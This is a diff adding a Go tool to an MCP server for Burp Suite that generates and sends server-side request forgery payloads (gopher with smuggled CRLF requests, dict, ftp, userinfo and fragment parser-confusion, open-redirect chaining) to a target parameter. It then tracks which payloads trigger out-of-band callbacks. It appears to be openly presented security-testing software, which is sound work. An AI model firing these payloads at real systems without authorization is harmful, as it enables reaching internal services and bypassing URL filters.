@@ -0,0 +1,245 @@
+package tools
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/url"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/c0tton-fluff/burp-mcp-server/internal/burp"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+const (
+	defaultSSRFWait = 15
+	maxSSRFWait     = 120
+)
+
+// ssrfVariant is one way of writing the callback URL. label is unique to
+// the variant and appears in its host (when the callback is a domain) and
+// path, so an interaction can be traced back to the payload that caused it.
+type ssrfVariant struct {
+	name, label, payload string
+}
+
+// ssrfVariants builds the payloads for a callback host (domain or IP, with
+// optional port). allowed is the host a filter probably expects, used for
+// parser-confusion forms. redirector, if set, is an open redirect prefix
+// the callback URL is appended to.
+func ssrfVariants(callback, token, allowed, redirector string) []ssrfVariant {
+	hostname := callback
+	if h, _, err := net.SplitHostPort(callback); err == nil {
+		hostname = h
+	}
+	prefixable := net.ParseIP(strings.Trim(hostname, "[]")) == nil
+
+	var variants []ssrfVariant
+	add := func(variant string, build func(host, hostname, path string) string) {
+		label := fmt.Sprintf("%s-%02d", token, len(variants))
+		host, name := callback, hostname
+		if prefixable {
+			host, name = label+"."+callback, label+"."+hostname
+		}
+		variants = append(variants, ssrfVariant{name: variant, label: label, payload: build(host, name, "/"+label)})
+	}
+	add("http", func(h, _, p string) string { return "http://" + h + p })
+	add("https", func(h, _, p string) string { return "https://" + h + p })
+	add("scheme-relative", func(h, _, p string) string { return "//" + h + p })
+	add("bare-host", func(h, _, p string) string { return h + p })
+	add("gopher", func(h, hn, p string) string {
+		return "gopher://" + hn + ":80/_GET%20" + p + "%20HTTP/1.1%0D%0AHost:%20" + hn + "%0D%0A%0D%0A"
+	})
+	add("dict", func(_, hn, p string) string { return "dict://" + hn + ":80" + p })
+	add("ftp", func(h, _, p string) string { return "ftp://" + h + p })
+	if allowed != "" {
+		add("userinfo", func(h, _, p string) string { return "http://" + allowed + "@" + h + p })
+		if prefixable {
+			add("allowed-as-subdomain", func(h, _, p string) string { return "http://" + allowed + "." + h + p })
+		}
+		add("fragment", func(h, _, p string) string { return "http://" + h + p + "#" + allowed })
+		add("query", func(h, _, p string) string { return "http://" + h + p + "?" + allowed })
+	}
+	if redirector != "" {
+		add("redirect", func(h, _, p string) string { return redirector + url.QueryEscape("http://"+h+p) })
+	}
+	return variants
+}
+
+// matchInteractions assigns each interaction to the variant whose label it
+// mentions. DNS lowercases names, so matching ignores case.
+func matchInteractions(variants []ssrfVariant, hits []CollaboratorInteraction) (map[string][]CollaboratorInteraction, []CollaboratorInteraction) {
+	matched := map[string][]CollaboratorInteraction{}
+	var unmatched []CollaboratorInteraction
+	for _, h := range hits {
+		detail := strings.ToLower(h.Detail)
+		found := false
+		for _, v := range variants {
+			if strings.Contains(detail, strings.ToLower(v.label)) {
+				matched[v.label] = append(matched[v.label], h)
+				found = true
+				break
+			}
+		}
+		if !found {
+			unmatched = append(unmatched, h)
+		}
+	}
+	return matched, unmatched
+}
+
+// SSRFProbeInput is the input for burp_ssrf_probe.
+type SSRFProbeInput struct {
+	Raw           string `json:"raw" jsonschema:"required,Raw HTTP request with the URL-taking parameter"`
+	Param         string `json:"param" jsonschema:"required,Parameter to inject into (e.g. url, webhook, image)"`
+	In            string `json:"in,omitempty" jsonschema:"Where the parameter lives: query or body (form-encoded). Default: wherever it already is, else query"`
+	Callback      string `json:"callback,omitempty" jsonschema:"Your own listener as host, host:port, or URL (default: a fresh Burp Collaborator domain, polled for hits)"`
+	AllowedHost   string `json:"allowedHost,omitempty" jsonschema:"Host a URL filter likely allows, for userinfo/fragment confusion variants (default: the request's host)"`
+	Redirector    string `json:"redirector,omitempty" jsonschema:"Open redirect URL prefix the callback URL is appended to, e.g. https://target/redirect?to="`
+	WaitSeconds   int    `json:"waitSeconds,omitempty" jsonschema:"How long to poll Collaborator, or the listen command's callback log, after sending (default 15, max 120)"`
+	Host          string `json:"host,omitempty" jsonschema:"Target host (overrides Host header)"`
+	Port          int    `json:"port,omitempty" jsonschema:"Target port (default based on TLS)"`
+	TLS           *bool  `json:"tls,omitempty" jsonschema:"Use HTTPS (default true)"`
+	HeaderProfile string `json:"headerProfile,omitempty" jsonschema:"Header rule profile from config (default: 'default')"`
+	Instance      string `json:"instance,omitempty" jsonschema:"Named Burp instance from config (default: the --burp-url connection)"`
+}
+
+// SSRFVariant is one sent payload and the interactions traced to it.
+type SSRFVariant struct {
+	Name         string                    `json:"name"`
+	Label        string                    `json:"label"`
+	Payload      string                    `json:"payload"`
+	StatusCode   int                       `json:"statusCode,omitempty"`
+	Length       int                       `json:"length"`
+	Interactions []CollaboratorInteraction `json:"interactions,omitempty"`
+	Error        string                    `json:"error,omitempty"`
+}
+
+// SSRFProbeOutput is the output of burp_ssrf_probe.
+type SSRFProbeOutput struct {
+	Callback string        `json:"callback"`
+	Param    string        `json:"param"`
+	In       string        `json:"in"`
+	Variants []SSRFVariant `json:"variants"`
+	// Confirmed names the variants that caused an out-of-band interaction.
+	Confirmed []string `json:"confirmed"`
+	// Unmatched are interactions that mention no variant label, e.g. a
+	// lookup of the bare Collaborator domain.
+	Unmatched []CollaboratorInteraction `json:"unmatched,omitempty"`
+	Note      string                    `json:"note,omitempty"`
+}
+
+func ssrfProbeHandler(client *burp.Client) func(context.Context, *mcp.CallToolRequest, SSRFProbeInput) (*mcp.CallToolResult, SSRFProbeOutput, error) {
+	return func(ctx context.Context, _ *mcp.CallToolRequest, input SSRFProbeInput) (*mcp.CallToolResult, SSRFProbeOutput, error) {
+		ctx = burp.WithInstance(ctx, input.Instance)
+
+		if input.Param == "" {
+			return nil, SSRFProbeOutput{}, fmt.Errorf("param is required")
+		}
+		rawNorm, parsed, err := prepareRequest(input.Raw, input.HeaderProfile)
+		if err != nil {
+			return nil, SSRFProbeOutput{}, err
+		}
+		t, err := resolveTarget(input.Host, input.Port, input.TLS, parsed.Host)
+		if err != nil {
+			return nil, SSRFProbeOutput{}, err
+		}
+		_, in, err := injectParam(rawNorm, input.Param, "", input.In)
+		if err != nil {
+			return nil, SSRFProbeOutput{}, err
+		}
+		// Don't burn a Collaborator payload on a call that can't send.
+		if err := checkDryRun(ctx); err != nil {
+			return nil, SSRFProbeOutput{}, err
+		}
+		wait := input.WaitSeconds
+		if wait <= 0 {
+			wait = defaultSSRFWait
+		}
+		wait = min(wait, maxSSRFWait)
+
+		callback, payloadID := strings.TrimSpace(input.Callback), ""
+		if callback != "" {
+			if strings.Contains(callback, "://") {
+				u, err := url.Parse(callback)
+				if err != nil || u.Host == "" {
+					return nil, SSRFProbeOutput{}, fmt.Errorf("invalid callback URL: %q", callback)
+				}
+				callback = u.Host
+			}
+		} else if callback, payloadID, err = generateCollaboratorPayload(ctx, client); err != nil {
+			return nil, SSRFProbeOutput{}, err
+		}
+		allowed := input.AllowedHost
+		if allowed == "" {
+			allowed = parsed.Host
+			if h, _, err := net.SplitHostPort(allowed); err == nil {
+				allowed = h
+			}
+		}
+
+		variants := ssrfVariants(callback, cacheToken(), allowed, input.Redirector)
+		start := time.Now()
+		out := SSRFProbeOutput{Callback: callback, Param: input.Param, In: in, Variants: make([]SSRFVariant, len(variants)), Confirmed: []string{}}
+		parallel(len(variants), func(i int) {
+			v := variants[i]
+			res := SSRFVariant{Name: v.name, Label: v.label, Payload: v.payload}
+			defer func() { out.Variants[i] = res }()
+			req, _, err := injectParam(rawNorm, input.Param, url.QueryEscape(v.payload), in)
+			if err != nil {
+				res.Error = err.Error()
+				return
+			}
+			resp, err := sendParsed(ctx, client, req, t, 0)
+			if err != nil {
+				res.Error = err.Error()
+				return
+			}
+			res.StatusCode, res.Length = resp.StatusCode, resp.BodySize
+		})
+
+		// Without Collaborator, the listen command's log is the only place
+		// to look; poll it if a listener has ever written one.
+		fetch := func(ctx context.Context) ([]CollaboratorInteraction, error) {
+			return collaboratorInteractions(ctx, client, payloadID)
+		}
+		if payloadID == "" {
+			if _, err := os.Stat(settings.CallbackLog()); err != nil {
+				out.Note = "Sent to your listener; look for requests or lookups containing each variant's label."
+				return nil, out, nil
+			}
+			fetch = func(context.Context) ([]CollaboratorInteraction, error) { return localCallbacks(start) }
+		}
+		hits, err := pollInteractions(ctx, fetch, time.Duration(wait)*time.Second, func(hits []CollaboratorInteraction) bool {
+			matched, _ := matchInteractions(variants, hits)
+			return len(matched) == len(variants)
+		})
+		if err != nil {
+			out.Note = err.Error()
+		}
+		matched, unmatched := matchInteractions(variants, hits)
+		for i, v := range variants {
+			if m := matched[v.label]; len(m) > 0 {
+				out.Variants[i].Interactions = m
+				out.Confirmed = append(out.Confirmed, v.name)
+			}
+		}
+		out.Unmatched = unmatched
+		if len(hits) == 0 && out.Note == "" {
+			out.Note = fmt.Sprintf("No interactions within %ds; slow back-end fetchers may still call back, so poll again later with the Collaborator tab or burp_get_callbacks.", wait)
+		}
+		return nil, out, nil
+	}
+}
+
+// RegisterSSRFProbeTool registers the burp_ssrf_probe tool.
+func RegisterSSRFProbeTool(server *mcp.Server, client *burp.Client) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_ssrf_probe",
+		Description: `Inject a callback URL into a parameter in many forms (http, https, scheme-relative, bare host, gopher, dict, ftp, userinfo/subdomain/fragment/query confusion against the allowed host, and through an optional open redirect), each tagged with a unique label. ` +
+			`By default the callback is a fresh Burp Collaborator domain (Burp Professional), polled after sending so out-of-band DNS/HTTP hits are traced to the variant that caused them; with your own callback, the log of a burp-mcp-server listen process is polled the same way, or check your listener for the labels. ` +
+			`Returns {callback, param, in, variants: [{name, label, payload, statusCode, length, interactions}], confirmed, unmatched, note}.`,
+	}, ssrfProbeHandler(client))
+}